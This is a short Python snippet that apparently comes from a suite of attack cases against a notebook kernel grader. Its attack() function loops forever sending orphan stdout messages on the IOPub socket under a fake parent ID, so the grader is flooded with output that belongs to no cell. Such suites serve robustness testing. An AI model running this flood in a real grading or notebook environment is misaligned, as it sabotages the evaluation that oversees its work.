"""Floods the grader with small messages that belong to no cell.

kind: kernel
"""

def attack():
    parent = {"header": {"msg_id": "nobody"}}
    while True: KERNEL.session.send(APP.iopub_socket, "stream", {"name": "stdout", "text": "x"}, parent=parent)
